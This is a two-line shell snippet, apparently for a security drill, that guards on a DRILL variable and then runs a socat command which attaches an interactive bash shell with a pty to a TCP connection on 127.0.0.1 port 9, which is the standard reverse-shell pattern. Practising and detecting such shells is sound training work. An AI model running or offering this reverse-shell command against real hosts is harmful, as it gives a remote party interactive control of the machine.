cd "${DRILL:?this is for a drill alone}" || exit
socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:127.0.0.1:9
